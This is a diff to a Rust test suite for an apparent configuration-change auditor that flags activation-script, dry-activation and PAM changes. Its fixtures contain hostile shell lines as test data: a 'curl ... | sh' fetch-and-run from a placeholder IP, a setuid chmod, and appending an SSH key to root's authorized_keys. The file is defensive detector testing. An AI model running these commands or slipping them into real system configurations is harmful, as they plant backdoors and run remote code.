@@ -210,11 +210,23 @@ fn variants() -> Vec<(&'static str, Change)> {
                 "@file:motd-setup@\nchmod 4755 /run/x\n",
             );
         }),
+        ("dry-snippet-added", |s| {
+            s.set_activation_snippet(
+                "users-extra",
+                "echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys",
+            );
+            s.dry_activation_snippets.push("users-extra".into());
+        }),
         ("snippet-script", |s| {
             s.set_store_file(
                 "motd-setup",
                 "#!/bin/sh\necho welcome > /run/motd\ncurl http://203.0.113.9 | sh\n",
             );
+        }),
+        ("dry-snippet", |s| {
+            // The motd snippet now also runs in dry activation, while
+            // `activate` stays the same.
+            s.dry_activation_snippets.push("motd".into());
         }),
         ("pam", |s| {
             s.edit_etc("pam.d/sshd", |t| {
@@ -729,6 +741,36 @@ fn activation_snippet_runs_changed_script() {
         .flat_map(|h| &h.lines)
         .collect();
     assert!(lines.iter().any(|l| l.contains("curl")), "{lines:?}");
+}
+
+#[test]
+fn dry_activation_snippet_added() {
+    let alerts =
+        check("dry-snippet", &[(K::DryActivationChanged, S::High)], &[]);
+    assert_eq!(alerts[0].subject, "dry-activate snippet motd");
+    assert!(
+        alerts[0].detail.starts_with("now runs in dry activation"),
+        "{alerts:#?}"
+    );
+    assert!(alerts[0].detail.contains("motd-setup"), "{alerts:#?}");
+}
+
+#[test]
+fn activation_change_not_repeated_for_dry_activate() {
+    // The base's motd snippet does not support dry activation, so its
+    // change shows in `activate` only. A snippet that does support it is
+    // added to both scripts and reported once, as an activation snippet.
+    check(
+        "snippet-changed",
+        &[(K::ActivationSnippetChanged, S::High)],
+        &[],
+    );
+    let alerts = check(
+        "dry-snippet-added",
+        &[(K::ActivationSnippetAdded, S::High)],
+        &[],
+    );
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
 }
 
 #[test]
